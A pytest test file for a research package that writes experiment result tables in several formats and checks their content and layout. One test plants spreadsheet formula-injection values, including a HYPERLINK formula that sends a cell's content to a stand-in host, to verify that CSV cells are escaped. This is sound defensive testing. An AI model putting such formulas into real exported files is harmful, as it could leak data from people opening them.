"""Every table that is written from a results folder."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import shutil
from pathlib import Path

import pandas as pd
import pytest
from known_truth import write_known
from latex_on_disk import CLASSES, set_pages, widest_overfull
from synthetic import write_results
from tables_on_disk import NAMES, claims, lines, prose, published, read

from phvae.analysis.claims.published import read_published
from phvae.analysis.presentation.metric_labels import metric_label
from phvae.analysis.presentation.metrics_shown import HEADLINES, SCORE_TABLES
from phvae.analysis.results.collect import collect
from phvae.analysis.statistics.curve_margin import MARGINS
from phvae.analysis.tables.costs import parameters
from phvae.analysis.tables.divergences_orders import by_order
from phvae.analysis.tables.inputs import read_inputs
from phvae.analysis.tables.layout import read_tables
from phvae.analysis.tables.score_tables import _references
from phvae.analysis.tables.write import write_tables
from phvae.analysis.terminal.compare import compare
from phvae.errors import DataError
from phvae.experiment.grid import load_grid
from phvae.files import read_json
from phvae.model.options import ModelConfig

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def root(known_tables: Path) -> Path:
    return known_tables


def test_every_table_comes_in_every_form_and_stands_in_the_index(root: Path) -> None:
    index = read_json(root / "tables" / "index.json")
    assert tuple(index["tables"]) == NAMES
    for name in NAMES:
        for ending in ("csv", "md", "tex", "json"):
            assert (root / "tables" / f"{name}.{ending}").stat().st_size > 0
    assert index["baseline"] == "vae"


HOSTILE = '=HYPERLINK("http://a.test/"&A1)'


def test_no_table_holds_a_cell_that_a_spreadsheet_runs(tmp_path: Path) -> None:
    root = write_known(tmp_path)
    runs = pd.read_parquet(root / "runs.parquet")
    runs.assign(label=HOSTILE, commit="@SUM(A1)", platform="\t=1").to_parquet(root / "runs.parquet")
    write_tables(root, claims(tmp_path), published(tmp_path))
    texts = [path.read_text(encoding="utf-8") for path in sorted((root / "tables").glob("*.csv"))]
    cells = {cell for text in texts for line in csv.reader(io.StringIO(text)) for cell in line}
    assert {cell for cell in cells if HOSTILE in cell and not cell.startswith("'=")} == set()
    assert f"'{HOSTILE} (vae)" in cells
    assert "'@SUM(A1)" in cells


def test_words_of_the_score_tables_are_the_known_truth(root: Path) -> None:
    images = read(root, "images").set_index(["dataset", "variant", "metric"])["word"]
    assert images["grey", "ph-vae-3", "mse"] == "better"
    assert images["grey", "copies-3", "mse"] == "not resolved"
    assert images["grey", "ph-vae-4", "mse"] == "not resolved"
    assert images["bits", "ph-vae-3", "mse"] == "not resolved"
    curve = read(root, "densities").set_index(["dataset", "variant", "metric"])["word"]
    assert curve["curve", "ph-vae-3", "w1_samples_mean"] == "better"
    assert curve["curve", "ph-vae-3", "ks_samples_mean"] == "both as good as real data"
    matched = read(root, "matched-rate").set_index(["dataset", "variant", "metric"])["word"]
    assert matched["grey", "ph-vae-3", "mse"] == "better"
    assert matched["grey", "copies-3", "mse"] == "not resolved"
    assert matched["grey", "ph-vae-4", "mse"] == "not resolved"  # withheld: one seed diverged
    orders = read(root, "divergences-orders").set_index(["dataset", "variant", "metric"])["word"]
    assert orders["grey", "ph-vae-3", "mse"] == "better"
    assert ("grey", "copies-3", "mse") not in orders.index


def test_the_curves_own_error_stands_below_the_differences(root: Path) -> None:
    grey = lines(root, "matched-rate", "grey")
    table = read(root, "matched-rate").query("dataset == 'grey' and metric == 'mse'")
    column = grey["variant"].index("MSE")
    assert grey["curve's own error"][column] == f"{100 * MARGINS['mse'].relative:g} %"
    assert table["margin"].to_numpy() == pytest.approx(MARGINS["mse"].relative * table["curve"].to_numpy())


def test_diverged_and_missing_runs_are_shown_where_the_numbers_are(root: Path) -> None:
    grey = lines(root, "images", "grey")
    assert grey["PH-VAE, order 4 (1 diverged)"][0].endswith("(9/10)")
    curve = lines(root, "densities", "curve")
    assert set(curve["PH-VAE, order 4 (10 missing)"]) == {"–"}
    provenance = lines(root, "provenance", "Runs")
    assert provenance["data set"][:3] == ["ok", "diverged", "missing"]
    assert provenance["grey"][:4] == ["79", "1", "0", "no"]
    assert provenance["curve"][:4] == ["70", "0", "10", "no"]
    assert provenance["bits"][3] == "yes"


def test_metrics_without_a_value_are_named_with_the_reason(root: Path) -> None:
    assert "No value for FID, samples: no Inception weights were given." in prose(root, "images")


def test_references_are_apart_and_named_by_what_they_are() -> None:
    made = [
        ("mse", 0.07, None, "floor: the mean image"),
        ("fd_classifier_samples", 0.8, None, "floor: training images"),
    ]
    made += [("mig", 0.01, 0.9, ""), ("knn_accuracy", 0.1, None, "k 5; floor: the commonest label")]
    rows = pd.DataFrame(made, columns=["metric", "floor", "ceiling", "settings"])
    found = _references(rows.astype({"ceiling": float}), dict.fromkeys(rows["metric"], 2))
    assert {row[0].text: [cell.text for cell in row[1:]] for row in found} == {
        "real against real": ["–", "0.80", "–", "–"], "perfect code": ["–", "–", "0.90", "–"],
        "mean image": ["0.070", "–", "–", "–"], "no information": ["–", "–", "0.010", "0.10"],
    }  # fmt: skip


def test_headline_metrics_come_first(root: Path) -> None:
    for table in read_tables(root / "tables"):
        for block in table.blocks if table.name in SCORE_TABLES else []:
            first = {metric_label(metric) for metric in HEADLINES}
            assert set(block.header[1 : block.headline]) == first & set(block.header), table.name


def test_published_numbers_stand_beside_ours(root: Path) -> None:
    grey = lines(root, "images", "grey")
    assert grey["PH-VAE, order 3, published (table 2; ± sd)"][:2] == ["0.01230 ± 0.00040", "–"]
    assert grey["paper_model, published (fig. 3; ± sd)"][1] == "0.900"
    frame = read(root, "images")
    ours = frame[(frame["dataset"] == "grey") & (frame["variant"] == "ph-vae-3") & (frame["metric"] == "mse")]
    assert ours["published"].tolist() == [0.0123]
    assert ours["published_source"].tolist() == ["table 2"]


def test_small_data_needs_several_sizes(root: Path) -> None:
    text = (root / "tables" / "small-data.md").read_text(encoding="utf-8")
    assert "No run of this grid has such numbers." in text


def test_parameters_are_held_against_the_baseline(root: Path) -> None:
    grey = lines(root, "parameters", "grey")
    assert grey["variant"] == ["all", "encoders", "decoder", "all / VAE"]
    assert grey["PH-VAE, order 3"] == ["3,000", "2,000", "1,000", "1"]
    assert lines(root, "cost", "grey")["VAE"] == ["3"]


def test_writing_again_gives_the_same_bytes(root: Path, tmp_path: Path) -> None:
    copy = tmp_path / "results"
    shutil.copytree(root, copy)
    shutil.rmtree(copy / "tables")
    extra = published(tmp_path, "grey,all,ph-vae-3,mse,0.0123,0.0004,table 2", "grey,all,paper_model,ssim,0.9,,fig. 3")
    write_tables(copy, claims(tmp_path), extra)
    for path in sorted((root / "tables").iterdir()):
        assert (copy / "tables" / path.name).read_bytes() == path.read_bytes(), path.name


def test_the_shipped_claims_and_published_numbers_serve(root: Path, tmp_path: Path) -> None:
    copy = tmp_path / "results"
    shutil.copytree(root, copy)
    write_tables(copy, Path("config/claims.yaml"), Path("config/published.csv"))
    assert len(read_published("config/published.csv")) == 0


def test_a_folder_without_results_says_what_to_do(tmp_path: Path) -> None:
    with pytest.raises(DataError, match="phvae collect"):
        write_tables(tmp_path, Path("config/claims.yaml"), Path("config/published.csv"))


ODD = {
    "nothing trained": (2, {}),
    "one run": (1, {("vae", 0): {"mse": 0.1}}),
    "the baseline lost": (3, {("vae", s): None for s in range(3)} | {("ph-vae-3", s): {"mse": 0.1} for s in range(3)}),
    "no rows at all": (1, {("vae", 0): {}}),
    "constant values": (6, {(v, s): {"mse": 0.5, "kl": 3.0} for v in ("vae", "ph-vae-3") for s in range(6)}),
    "many seeds": (35, {(v, s): {"mse": 0.5 + s} for v in ("vae", "ph-vae-3") for s in range(35)}),
    "a metric that was removed": (3, {("vae", s): {"old_metric": 1.0 + s} for s in range(3)}),
}


@pytest.mark.parametrize("case", list(ODD))
def test_odd_results_give_tables_all_the_same(case: str, tmp_path: Path) -> None:
    seeds, runs = ODD[case]
    for (variant, seed), metrics in runs.items():
        folder = tmp_path / "runs" / "grey" / "n-all" / variant / f"seed-{seed}"
        folder.mkdir(parents=True)
        model = ModelConfig(order=3 if "3" in variant else 1).model_dump(mode="json")
        status = "diverged" if metrics is None else "ok"
        (folder / "run.json").write_text(json.dumps({"status": status, "config": {"model": model}}))
        base = {
            "split": "test",
            "unit": "1",
            "higher_is_better": False,
            "n": 9,
            "settings": "",
            "status": "ok",
            "reason": "",
        }
        rows = [{"metric": metric, "value": value, **base} for metric, value in (metrics or {}).items()]
        (folder / "metrics.json").write_text(json.dumps({"scores": {"toy": {"rows": rows}}}))
    collect(tmp_path, [("grey", "all", variant, seed) for variant in ("vae", "ph-vae-3") for seed in range(seeds)])
    write_tables(tmp_path, Path("config/claims.yaml"), Path("config/published.csv"), baseline="vae")
    good = sum(bool(metrics) for metrics in runs.values())
    assert lines(tmp_path, "provenance", "Runs")["grey"][0] == str(good)
    assert compare(tmp_path, "vae").startswith("Against")


@pytest.mark.latex
@pytest.mark.parametrize("options", CLASSES.values(), ids=CLASSES)
def test_the_latex_tables_compile_and_fit_the_page(options: str, root: Path, tmp_path: Path) -> None:
    tables = sorted((root / "tables").glob("*.tex"))
    assert {path.stem for path in tables} == {*NAMES, "family-better_images"}
    log = set_pages(tmp_path, "\n".join(f"\\input{{{path}}}" for path in tables), options)
    assert (tmp_path / "t.pdf").stat().st_size > 10_000
    assert widest_overfull(log) < 2, "a column does not fit"


def test_published_numbers_of_the_example_stand_beside_ours(tmp_path: Path) -> None:
    example = Path("config/published-example.csv")
    assert len(read_published(example)) == 0
    filled = [
        line.replace(", , ,", f", {0.1 + i / 100:.2f}, 0.01, table 1")
        for i, line in enumerate(example.read_text().splitlines())
    ]
    (tmp_path / "published.csv").write_text("\n".join(filled))
    entered = read_published(tmp_path / "published.csv")
    cells = {(cell.dataset, str(cell.n_train), cell.variant) for cell in load_grid("config/quick.yaml").cells}
    assert set(zip(entered["dataset"], entered["n_train"], entered["variant"], strict=True)) <= cells
    results = write_results(
        tmp_path / "results", datasets=("trimodal",), variants=("vae", "ph-vae-3"), sizes=(2000,), arrays=False
    )
    write_tables(results, None, tmp_path / "published.csv", baseline="vae")
    table = lines(results, "densities", "trimodal")
    for variant, label in (("vae", "VAE"), ("ph-vae-3", "PH-VAE 3")):
        rows = entered[(entered["dataset"] == "trimodal") & (entered["variant"] == variant)]
        shown = dict(zip(table["variant"], table[f"{label}, published (table 1; ± sd)"], strict=True))
        for row in rows.to_dict("records"):
            assert shown[metric_label(row["metric"])] == f"{row['value']:.3f} ± 0.010"


def test_a_parameter_table_without_totals_has_its_ratios(root: Path, tmp_path: Path) -> None:
    copy = tmp_path / "results"
    shutil.copytree(root, copy)
    costs = pd.read_parquet(copy / "costs.parquet")
    costs.assign(parameters=pd.array([pd.NA] * len(costs), dtype="Int64")).to_parquet(copy / "costs.parquet")
    table, _ = parameters(read_inputs(copy))
    assert table.blocks
    for block in table.blocks:
        assert {len(line) for line in block.rows} == {len(block.header)}
        assert {line[-1].text for line in block.rows} == {"–"}


def test_the_line_of_order_one_says_whose_numbers_stand_there(root: Path) -> None:
    text = (root / "tables" / "divergences-orders.md").read_text(encoding="utf-8")
    assert "At order 1 KL is the VAE" in text
    one = lines(root, "divergences-orders", "grey")
    assert one["order"] == ["KL", "level-weighted, geometric(2)"]
    assert one["1"][1] == "–"  # which the sentence explains


def test_weights_of_a_divergence_are_columns_where_they_have_two_orders(root: Path) -> None:
    inputs = read_inputs(root)
    stats = inputs.statistics
    heavier = stats[stats["divergence"] != "kl"].assign(beta=4.0)
    one = stats[stats["divergence"] == "kl"].assign(beta=2.0)  # of order 1 alone
    weighted = dataclasses.replace(inputs, statistics=pd.concat([stats, heavier, one]))
    table, frame = by_order(weighted)
    words = "level-weighted, geometric(2)"
    assert {tuple(block.header) for block in table.blocks} == {("order", "KL", words, f"{words}, β 4")}
    assert set(frame["beta"].dropna()) == {1.0, 4.0}


def test_a_damaged_configuration_stops_the_tables(tmp_path: Path) -> None:
    shutil.copytree(write_known(tmp_path / "whole"), tmp_path / "results")
    (tmp_path / "results" / "config.json").write_text("{")
    with pytest.raises(DataError, match="remove it and run the workflow again"):
        read_inputs(tmp_path / "results")


@pytest.mark.parametrize(
    ("entries", "sentence"),
    [
        ({"grey": {}, "bits": {"n_train": ["all"], "subset": "by_seed"}}, ", not the data."),
        ({"grey": {"n_train": [9], "subset": "fixed"}}, ", not the data."),
        ({name: {"n_train": [9, "all"], "subset": "by_seed"} for name in ("grey", "bits", "curve")},
         ", and which examples are trained on."),
        ({"bits": {"n_train": [9], "subset": "by_seed"}},
         ", and on bits which examples are trained on; elsewhere not the data."),
    ],
)  # fmt: skip
def test_what_varies_over_seeds_is_read_from_the_configuration(
    root: Path, tmp_path: Path, entries: dict[str, dict[str, object]], sentence: str
) -> None:
    start = "Over seeds vary initialisation and order of the examples"
    assert start not in prose(root, "images")  # none is kept there
    copy = tmp_path / "results"
    shutil.copytree(root, copy)
    config = {"source": "x", "config": {"baseline": "vae", "datasets": entries}}
    (copy / "config.json").write_text(json.dumps(config))
    write_tables(copy, claims(tmp_path), published(tmp_path))
    for name in ("images", "claims", "matched-rate", "densities", "latent", "divergences-orders"):
        assert start + sentence in prose(copy, name)
    assert start + sentence in compare(copy)
